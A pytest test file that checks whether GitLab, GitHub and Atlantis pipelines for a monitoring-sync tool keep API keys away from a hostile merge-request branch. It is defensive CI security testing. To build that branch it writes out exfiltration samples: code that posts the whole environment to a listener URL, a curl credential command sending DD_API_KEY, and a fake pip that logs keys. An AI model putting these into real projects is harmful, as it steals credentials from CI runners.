"""A request to merge that wants the keys: what it brings is checked out, and nothing arrives at where it points.

Every pipeline is run as its provider would on the same hostile branch: a `ddsync.yaml` that sends the target elsewhere
and names a program for the keys, requirements of its own, definitions that send away all they can see.
"""

from __future__ import annotations

import http.server
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

from dd_sync.emulator import running
from tests.pull_requests.server import TOKEN, Served, served
from tests.workbench import API_KEY, APP_KEY
from tests.workflows.pipelines import ATLANTIS, GITLAB, ROOT, TEMPLATE, read, steps, workflow
from tests.workflows.repository import Repository, repository
from tests.workflows.shell import PLAIN_SHELL, Shell, shell

SECRETS = (API_KEY, APP_KEY, TOKEN)

SETTINGS = """\
project: acme
packs: []
clusters:
  - {{name: prod-eu-1, env: prod, team: platform}}
teams:
  platform: {{page: "@pagerduty-platform", tell: "@slack-platform"}}
targets:
  staging: {{url: "{url}"{more}}}
  prod: {{url: "{url}"{more}}}
"""

DEFINITION = '''\
"""Alerts."""
import json, os, urllib.request
from dd_sync import Cluster, Monitor, define

@define
def job_failed(cluster: Cluster) -> Monitor:
    """A job failed.

    First step: its log.
    """
    return Monitor(name="Job failed on {cluster.name}", query=f"avg(last_5m):sum:jobs.failed{cluster.scope()} > 5")
'''

SENT_AWAY = """
body = json.dumps(dict(os.environ)).encode()
urllib.request.build_opener(urllib.request.ProxyHandler({{}})).open("{url}", body, timeout=5)
"""

PIP = """#!/bin/sh
echo "$0 $*" >> {log}
for word in "$@"; do [ ! -f "$word" ] || cat "$word" >> {log}; done
echo "keys: $DD_API_KEY$DD_APP_KEY$GITLAB_TOKEN" >> {log}
"""
"""Stands for what installs: notes what it was told to, and beside which keys."""


@dataclass
class Listener:
    """Where the attacker waits: everything that arrives is kept, and answered as Datadog would a list."""

    url: str = ""
    heard: list[str] = field(default_factory=list)

    @property
    def secrets(self) -> list[str]:
        return [secret for secret in SECRETS if any(secret in one for one in self.heard)]


@pytest.fixture
def listener() -> Iterator[Listener]:
    found = Listener()

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.hear()

        def do_POST(self) -> None:
            self.hear()

        def hear(self) -> None:
            body = self.rfile.read(int(self.headers.get("Content-Length") or 0)).decode()
            found.heard.append(f"{self.command} {self.path}\n{self.headers}\n{body}")
            self.send_response(200)
            self.send_header("Content-Length", "2")
            self.end_headers()
            self.wfile.write(b"[]")

        def log_message(self, format: str, *args: Any) -> None:
            """Quiet."""

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    found.url = f"http://127.0.0.1:{server.server_port}"
    threading.Thread(target=server.serve_forever, args=(0.01,), daemon=True).start()
    yield found
    server.shutdown()
    server.server_close()


@dataclass
class Stage:
    """A provider with a hostile branch, and a runner whose tools are watched."""

    shell: Shell
    repository: Repository
    provider: Served
    log: Path

    @property
    def root(self) -> Path:
        return self.shell.root

    @property
    def installed(self) -> str:
        return self.log.read_text() if self.log.exists() else ""


@pytest.fixture
def stage(tmp_path: Path, listener: Listener) -> Iterator[Stage]:
    log = tmp_path / "installed"
    with running() as datadog, served() as provider, shell(tmp_path / "project", tmp_path / "bin") as runner:
        files = {
            "ddsync.yaml": SETTINGS.format(url=datadog.url, more=""),
            "monitors/jobs.py": DEFINITION,
            "requirements.txt": "ddsync==1\n",
            "docs/README": "no project here\n",
        }
        origin = repository(tmp_path / "provider", files)
        origin.branch("evil", evil(listener.url), "main")
        for name in ("pip", "python"):
            (runner.bin / name).write_text(PIP.format(log=log))
            (runner.bin / name).chmod(0o755)
        runner.environment |= {"GITHUB_API_URL": provider.url, "GITHUB_REPOSITORY": "acme/alerts"}
        yield Stage(runner, origin, provider, log)


def evil(url: str) -> dict[str, str]:
    """What the hostile branch changes."""
    program = f', keys: {{credential_command: [curl, "-s", "-d", "$DD_API_KEY", "{url}"]}}'
    settings = SETTINGS.format(url=url, more=program)
    return {
        "ddsync.yaml": settings,
        "docs/ddsync.yaml": settings,
        "monitors/jobs.py": DEFINITION + SENT_AWAY.format(url=url),
        "requirements.txt": "evil==1\n",
        "setup.py": "raise SystemExit('evil')\n",
        "prod.tfplan.base/ddsync.yaml": settings,
    }


# --- GitLab


def gitlab(stage: Stage, path: Path, job: str, branch: str, **more: str) -> None:
    """One job on a merge request as GitLab's runner does it: a clone of the branch, its artifacts, and the script."""
    found: Any = read(path)
    own = found[job]
    kept = stage.root.parent / "rendered"
    if (stage.root / "rendered").is_dir():
        (stage.root / "rendered").replace(kept)
    stage.repository.clone(stage.root, branch)
    if kept.is_dir():
        kept.replace(stage.root / "rendered")
    given = {
        "GITLAB_CI": "true",
        "CI_API_V4_URL": stage.provider.url,
        "CI_PROJECT_ID": "42",
        "CI_MERGE_REQUEST_IID": "17",
        "CI_DEFAULT_BRANCH": "main",
        **(own.get("variables") or {}),
        **({"DD_API_KEY": API_KEY, "DD_APP_KEY": APP_KEY, "GITLAB_TOKEN": TOKEN} if "environment" in own else {}),
        **more,
    }
    script = [*(own.get("before_script") or found["default"]["before_script"]), *own["script"]]
    stage.shell.run("\n".join(script), given, shell=PLAIN_SHELL)


@pytest.mark.parametrize(
    ("path", "renders"), [(GITLAB, "render"), (TEMPLATE / ".gitlab-ci.yml", "check")], ids=["shown", "init"]
)
def test_a_merge_request_at_gitlab_gets_no_key(stage: Stage, listener: Listener, path: Path, renders: str) -> None:
    gitlab(stage, path, renders, "evil", DDSYNC_TARGET="prod")
    assert listener.heard, "its definitions ran, and spoke"
    assert listener.secrets == []
    before = len(listener.heard)
    stage.log.write_text("")
    gitlab(stage, path, "plan", "evil", DDSYNC_TARGET="prod", TARGET="prod")
    assert listener.heard[before:] == []
    assert "evil" not in stage.installed, "requirements are those of the main branch"
    assert "1 to create" in stage.provider.texts(17)[0], "and the plan is there all the same"


@pytest.mark.parametrize("path", [GITLAB, TEMPLATE / ".gitlab-ci.yml"], ids=["shown", "init"])
def test_gitlab_starts_nothing_for_a_branch_of_the_attacker_s_and_shows_its_files_to_developers(path: Path) -> None:
    found = read(path)
    for rule in found["workflow"]["rules"]:
        assert "== $CI_DEFAULT_BRANCH" in rule["if"], "a merge request into a branch of one's own is no review"
    for name, job in found.items():
        if isinstance(job, dict) and "artifacts" in job:
            assert job["artifacts"]["access"] == "developer", name
    assert found["plan"]["variables"] == {"GIT_STRATEGY": "clone"}, "no hook that another job left behind"
    assert "slim" not in found["default"]["image"], "the plan needs git"


def test_a_default_branch_that_is_not_known_stops_the_plan(stage: Stage) -> None:
    with pytest.raises(AssertionError, match="CI_DEFAULT_BRANCH"):
        gitlab(stage, GITLAB, "plan", "evil", TARGET="prod", CI_DEFAULT_BRANCH="")


# --- GitHub


def github(stage: Stage, root: Path, name: str, job: str, branch: str, *, keys: bool) -> None:
    """One job: a clone of the branch its event is about, its artifacts, and the shell steps."""
    kept = stage.root.parent / "rendered"
    if (stage.root / "rendered").is_dir():
        (stage.root / "rendered").replace(kept)
    stage.repository.clone(stage.root, branch)
    if kept.is_dir():
        kept.replace(stage.root / "rendered")
    found = workflow(name, root)
    values = {"github.token": TOKEN if keys else "", "matrix.target": "prod", "vars.DDSYNC_TARGET": "prod"}
    values |= {"vars.DDSYNC_TARGETS || 'local'": "prod", "vars.DDSYNC_TARGET || 'local'": "prod"}
    values |= {"secrets.DD_API_KEY": API_KEY, "secrets.DD_APP_KEY": APP_KEY} if keys else {}
    event = {"GITHUB_REF": "refs/pull/17/merge", "GITHUB_ACTIONS": "true"}
    for step in steps(found["jobs"][job], values, found.get("env")):
        stage.shell.run(step.script, {**step.environment, **event})


@pytest.mark.parametrize(
    ("root", "checks"), [(ROOT, "ddsync-check"), (TEMPLATE, "ddsync")], ids=["this repository", "init"]
)
def test_a_pull_request_at_github_gets_no_key(stage: Stage, listener: Listener, root: Path, checks: str) -> None:
    github(stage, root, checks, "check", "evil", keys=False)
    assert listener.heard
    assert listener.secrets == []
    before = len(listener.heard)
    stage.log.write_text("")
    triggers = workflow("ddsync-plan", root)["on"]
    assert list(triggers) == ["workflow_run"], "which GitHub takes from the main branch, and checks that out"
    github(stage, root, "ddsync-plan", "plan", "main", keys=True)
    assert listener.heard[before:] == []
    assert "evil" not in stage.installed
    assert "1 to create" in stage.provider.texts(17)[0]


# --- Atlantis


def atlantis(stage: Stage, name: str, folder: str = ".", status: int = 0) -> None:
    """The steps of a stage on the server, whose environment has the keys, where the branch is merged into the base."""
    where = (stage.root / folder).resolve()
    given = {
        "WORKSPACE": "prod",
        "PLANFILE": str(where / "prod.tfplan"),
        "BASE_BRANCH_NAME": "main",
        "DD_API_KEY": API_KEY,
        "DD_APP_KEY": APP_KEY,
        "ATLANTIS_GH_TOKEN": TOKEN,
    }
    todo = read(ATLANTIS)["workflows"]["ddsync"][name]["steps"]
    scripts = [step["run"] for step in todo if "run" in step]
    for n, script in enumerate(scripts if status == 0 else scripts[:1], 1):
        last = n == len(scripts) or status != 0
        stage.shell.run(script, given, shell=("sh", "-c"), cwd=where, status=status if last else 0)


def test_a_pull_request_at_atlantis_gets_no_key_of_the_environment(stage: Stage, listener: Listener) -> None:
    stage.repository.merged(stage.root, "main", "evil")
    for name in ("plan", "policy_check", "apply"):
        atlantis(stage, name)
    assert [one.partition("\n")[0] for one in listener.heard] == ["POST /"], "its definitions ran once, and spoke"
    assert listener.secrets == []


def test_atlantis_plans_no_folder_that_is_no_project_of_the_base_branch(stage: Stage, listener: Listener) -> None:
    stage.repository.merged(stage.root, "main", "evil")
    atlantis(stage, "plan", "docs", status=1)
    assert listener.heard == []
